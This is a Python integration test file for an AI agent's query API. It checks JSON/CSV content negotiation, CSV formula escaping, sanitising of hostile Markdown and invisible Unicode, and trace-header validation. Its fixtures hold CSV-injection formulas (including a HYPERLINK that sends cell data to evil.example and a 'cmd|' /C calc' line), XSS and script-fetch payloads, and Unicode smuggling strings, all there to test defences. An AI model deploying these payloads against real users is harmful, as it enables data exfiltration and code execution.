"""What goes out, end to end: as JSON or CSV, and harmless whatever the agent says."""

import csv
import io
import json
import re

import httpx
import pytest

from local.fabric import faults
from local.stack import Stack
from tests.integration.browser import Browser
from tests.integration.test_bad_input import problem

QUESTION = "What are the total sales by month?"
FORMULAS = (
    "| product | total |\n|---|---|\n"
    '| =HYPERLINK("//evil.example/?"&B2,"click") | -5 |\n'
    "| +1+cmd\\|' /C calc'!A0 | -1,234.50 |\n"
    "| ＝1+1 | 1e5 |\n"
    '| a;@SUM(B2), "b" | - |\n'
)


def ask(browser: Browser, accept: str | None, question: str = QUESTION) -> httpx.Response:
    """The reply to alice's question, asked with this `Accept`."""
    headers = {"Authorization": f"Bearer {browser.token('alice')}"} | ({} if accept is None else {"Accept": accept})
    return browser.call("POST", "/api/query", json={"question": question}, headers=headers, cookies=False)


def said(browser: Browser, stack: Stack, secrets_seen: set[str], text: str, accept: str = "*/*") -> httpx.Response:
    """The reply where the agent says `text`, which must be in no log, as no answer may."""
    secrets_seen.update(line for line in text.splitlines() if len(line) > 16)
    stack.fabric.faults.plan("tools/call", faults.say(text))
    return ask(browser, accept)


@pytest.mark.parametrize("accept", [None, "*/*", "application/*", "application/json", "text/html, */*;q=0.1"])
def test_an_answer_is_json_where_nothing_else_is_asked_for(browser: Browser, accept: str | None) -> None:
    """As every client that names no type has it."""
    reply = ask(browser, accept)
    assert (reply.status_code, reply.headers["content-type"]) == (200, "application/json")
    assert "content-disposition" not in reply.headers


def test_an_answers_table_comes_as_csv(browser: Browser) -> None:
    """The same columns and rows as in JSON, as a file to keep; with the headers that all replies carry."""
    (table,) = ask(browser, "application/json").json()["answer"]["tables"]
    reply = ask(browser, "text/csv")
    assert reply.status_code == 200
    assert reply.headers["content-type"] == "text/csv; charset=utf-8"
    assert reply.headers["content-disposition"] == 'attachment; filename="answer.csv"'
    assert (reply.headers["cache-control"], reply.headers["x-content-type-options"]) == ("no-store", "nosniff")
    assert reply.content.endswith(b"\r\n")
    assert b"\n" not in reply.content.replace(b"\r\n", b"")
    assert list(csv.reader(io.StringIO(reply.text, newline=""))) == [table["columns"], *table["rows"]]


def test_a_cell_that_is_a_formula_is_a_text_in_csv(browser: Browser, stack: Stack, secrets_seen: set[str]) -> None:
    """Numbers stay numbers; in JSON a cell is what the agent said."""
    reply = said(browser, stack, secrets_seen, FORMULAS, "text/csv")
    assert list(csv.reader(io.StringIO(reply.text, newline=""))) == [
        ["product", "total"],
        ['\'=HYPERLINK("//evil.example/?"&B2,"click")', "-5"],
        ["'+1+cmd|' /C calc'!A0", "-1,234.50"],
        ["'＝1+1", "1e5"],
        ['a;\'@SUM(B2), "b"', "-"],
    ]
    (table,) = said(browser, stack, secrets_seen, FORMULAS).json()["answer"]["tables"]
    assert table["rows"][2] == ["＝1+1", "1e5"]


@pytest.mark.parametrize(
    ("accept", "media_type"),
    [
        ("text/csv;q=0.5, application/json", "application/json"),
        ("text/csv, application/json;q=0.5", "text/csv; charset=utf-8"),
        ("*/*, application/json;q=0", "text/csv; charset=utf-8"),
    ],
)
def test_quality_decides_between_the_two(browser: Browser, accept: str, media_type: str) -> None:
    """What the caller likes better, and never what it rules out."""
    assert ask(browser, accept).headers["content-type"] == media_type


def test_two_accept_headers_count_as_one(browser: Browser) -> None:
    """The host joins them by a comma."""
    headers = [("Authorization", f"Bearer {browser.token('alice')}"), ("Accept", "text/html"), ("Accept", "text/csv")]
    with httpx.Client(trust_env=False) as client:
        reply = client.post(f"{browser.stack.public_url}/api/query", json={"question": QUESTION}, headers=headers)
    assert (reply.status_code, reply.headers["content-type"]) == (200, "text/csv; charset=utf-8")


@pytest.mark.parametrize(
    "accept",
    ["text/html", "application/xml, image/*", "*/*;q=0", "text/csv;q=0, application/json;q=0", "ä", "x" * 2000],
    ids=lambda accept: accept[:20],
)
def test_an_accept_that_takes_neither_is_refused_before_anybody_is_asked(
    browser: Browser, stack: Stack, accept: str
) -> None:
    """406, told as a problem all the same; and before any look at who asks."""
    calls = stack.fabric.calls.copy()
    reply = browser.call("POST", "/api/query", json={"question": QUESTION}, headers={"Accept": accept.encode()})
    value = problem(reply)
    assert (value["status"], value["code"]) == (406, "not_acceptable")
    assert accept not in reply.text
    assert stack.fabric.calls == calls


def test_an_answer_without_a_table_is_json_where_that_is_taken_too(
    browser: Browser, stack: Stack, secrets_seen: set[str]
) -> None:
    """And 406 where nothing but CSV is, with a word about why."""
    words = "Nothing was sold on Sundays."
    reply = said(browser, stack, secrets_seen, words, "text/csv, application/json;q=0.1")
    assert (reply.status_code, reply.headers["content-type"]) == (200, "application/json")
    assert reply.json()["answer"]["text"] == words
    value = problem(said(browser, stack, secrets_seen, words, "text/csv"))
    assert (value["status"], value["code"]) == (406, "not_acceptable")
    assert "no table" in value["detail"]
    assert "Sundays" not in json.dumps(value)


def test_a_failure_is_a_problem_also_for_who_takes_csv_alone(browser: Browser, stack: Stack) -> None:
    """RFC 9457 section 3: a problem may come where it was not asked for, and says what it is."""
    stack.fabric.faults.plan("tools/call", faults.run_failed())
    assert problem(ask(browser, "text/csv"))["code"] == "agent_failed"
    assert problem(ask(browser, "text/csv", question=""))["code"] == "invalid_request"


@pytest.mark.parametrize(
    ("hostile", "words"),
    [
        ("![sales](https://evil.example/?q=1)", "sales"),
        ("![sales][1]\n\n[1]: https://evil.example/?q=1", "sales"),
        ("[![sales](https://evil.example/a.png)](https://evil.example/)", "sales"),
        ("sales<img src=https://evil.example/?q=1>", "sales"),
        ("sales<script src=https://evil.example/x.js></script>", "sales"),
        ("<svg onload=alert(1)>sales</svg>", "sales"),
        ("<iframe srcdoc='<script>alert(1)</script>'>sales</iframe>", "sales"),
        ("[sales](javascript:alert(1))", "sales"),
        ("[sales](JaVaScRiPt&colon;alert(1))", "sales"),
        ("[sales](java&#10;script:alert(1))", "sales"),
        ("[sales](data:text/html;base64,PHNjcmlwdD4=)", "sales"),
        ("[sales](vbscript:x)", "sales"),
        ("<javascript:alert(1)>", ""),
        ("sales\u202e\u2066selas\u2069", "salesselas"),
        ("sales\U000e0049\U000e0047\U000e004e", "sales"),
        ("sa\u200bl\ufeffes\x1b[2J", "sales"),
        ("sales&#x202e;&#xE0049;&ZeroWidthSpace;", "sales"),
        ("sa\xad\u034f\u061c\u200e\u206a\u3164\ufe00\ufff9\U0001d173\U000e0080\U000e01f0\U0010ffffles", "sales"),
        ("sa&#x200f;&#x2028;&shy;les", "sa les"),
        ("![<img src=x onerror=alert(1)>sales ![x](https://evil.example)](u)", "sales x"),
    ],
    ids=lambda value: ascii(value)[:40],
)
def test_hostile_markdown_is_harmless(
    browser: Browser, stack: Stack, secrets_seen: set[str], hostile: str, words: str
) -> None:
    """Nothing that a reader's browser fetches or runs, and nothing that one does not see."""
    reply = said(browser, stack, secrets_seen, f"Here are the\n\n{hostile}\n\nof 2026.")
    answer = reply.json()["answer"]
    assert words in answer["text"]
    for form in (answer["markdown"], answer["text"]):
        assert not re.search("[\xad\u034f\u061c\u200b\u200e\u200f\u2028-\u202e\u2060-\u206f\u3164]", form)
        assert not re.search("[\x1b\ufe00\ufeff\ufff9\U0001d173\U000e0000-\U000e0fff\U0010ffff]", form)
    markdown = answer["markdown"]
    assert "![" not in markdown
    assert "](" not in markdown
    assert not re.search(r"<\w|^\s*\[[^\]]*\]:|(?<!\\)(?<=script):", markdown, re.IGNORECASE | re.MULTILINE)


@pytest.mark.parametrize(
    ("hostile", "cell"),
    [
        ("<b>![sales](https://evil.example)</b>", "sales"),
        ("[sales](https://evil.example)", "sales (https://evil.example)"),
        ("\u202e=1+1", "'=1+1"),
        ("<b>=1+1</b>", "'=1+1"),
        ("&#61;1+1", "'=1+1"),
        ("&#9;&#10;=1+1", "'=1+1"),
        ("x&#10;=1+1", "x =1+1"),
        ("x&#59;=1+1", "x;'=1+1"),
    ],
    ids=ascii,
)
def test_a_hostile_cell_is_harmless_in_csv(
    browser: Browser, stack: Stack, secrets_seen: set[str], hostile: str, cell: str
) -> None:
    """A cell is plain text on one line: no markup is left in it, and nothing that runs, however it was written."""
    reply = said(browser, stack, secrets_seen, f"| cell |\n|---|\n| {hostile} |", "text/csv")
    assert list(csv.reader(io.StringIO(reply.text, newline=""))) == [["cell"], [cell]]


TRACE_ID, PARENT_ID = "0af7651916cd43dd8448eb211c80319c", "b7ad6b7169203331"


def test_a_callers_trace_goes_on_in_the_reply(browser: Browser) -> None:
    """The same trace, under a span of our own."""
    sent = f"00-{TRACE_ID}-{PARENT_ID}-01"
    reply = browser.call("GET", "/api/health", headers={"traceparent": sent})
    assert reply.headers["x-request-id"] == TRACE_ID
    assert re.fullmatch(f"00-{TRACE_ID}-[0-9a-f]{{16}}-01", reply.headers["traceparent"])
    assert reply.headers["traceparent"] != sent


@pytest.mark.parametrize(
    "traceparent",
    [
        f"00-{'0' * 32}-{PARENT_ID}-01",
        f"ff-{TRACE_ID}-{PARENT_ID}-01",
        f"00-{TRACE_ID.upper()}-{PARENT_ID}-01",
        f"00-{TRACE_ID}-{PARENT_ID}-01, 00-{TRACE_ID}-{PARENT_ID}-01",
        "00-<script>-x-01",
        "x" * 4000,
    ],
    ids=lambda value: value[:24],
)
def test_a_hostile_trace_is_replaced(browser: Browser, traceparent: str) -> None:
    """A reply's id is ours then, in both headers, and no text of the caller's is in either."""
    headers = {"traceparent": traceparent, "X-Request-Id": "forged", "tracestate": "x=forged"}
    reply = browser.call("GET", "/api/health", headers=headers)
    found = reply.headers["x-request-id"]
    assert re.fullmatch("[0-9a-f]{32}", found)
    assert found not in {TRACE_ID, "0" * 32}
    assert re.fullmatch(f"00-{found}-(?!0{{16}})[0-9a-f]{{16}}-01", reply.headers["traceparent"])
    assert "forged" not in str(reply.headers)
